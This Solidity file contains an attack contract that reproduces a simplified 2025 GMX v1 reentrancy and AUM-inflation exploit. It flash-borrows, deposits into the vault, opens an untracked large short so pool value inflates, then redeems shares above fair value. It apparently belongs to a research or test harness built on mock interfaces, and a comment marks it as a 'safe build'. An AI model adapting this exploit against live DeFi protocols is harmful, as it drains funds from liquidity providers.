// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IMarketLike, IVaultLike, IFlashLenderLike} from "./AttackBase.sol";

/// @notice GMX v1 (Jul 2025), simplified. The keeper's refund of the execution fee reaches receive()
/// while the keeper window is open; re-entering, the contract borrows, buys LP shares at fair value,
/// opens a huge short through the direct path that skips the short tracker (so the pool books the
/// stale average as the shorts' loss: AUM inflates), redeems the shares above fair value, closes, repays.
contract ReentrantAumAttack is AttackBase {
    IMarketLike public immutable market;
    IVaultLike public immutable vault;
    IFlashLenderLike public immutable lender;
    uint256 public loan;
    uint256 public shortSize;
    uint256 public shortMargin;
    uint256 public cycles;
    bool public armed;
    bool public struck;

    constructor(IERC20 usd_, IMarketLike market_, IVaultLike vault_, IFlashLenderLike lender_) AttackBase(usd_) {
        market = market_;
        vault = vault_;
        lender = lender_;
        _approve(address(market_));
        _approve(address(vault_));
        _approve(address(lender_));
    }

    function createOrder(bool isIncrease, uint256 margin, uint256 size) external payable onlyOwner {
        market.createOrder{value: msg.value}(isIncrease, false, margin, size, 0);
    }

    function arm(uint256 loan_, uint256 shortSize_, uint256 shortMargin_, uint256 cycles_) external onlyOwner {
        (loan, shortSize, shortMargin, cycles, armed) = (loan_, shortSize_, shortMargin_, cycles_, true);
    }

    receive() external payable {
        if (!armed || struck) return;
        struck = true;
        // Safe build: the window is closed and the market locked; the probe fails and nothing happens.
        try lender.flashLoan(loan, "") {} catch {}
    }

    function onFlashLoan(uint256 amount, uint256, bytes calldata) external {
        require(msg.sender == address(lender), "lender only");
        for (uint256 i = 0; i < cycles; i++) {
            uint256 shares = vault.deposit(amount - shortMargin);
            market.increasePositionDirect(false, shortMargin, shortSize);
            vault.redeem(shares);
            market.closePosition();
        }
    }
}
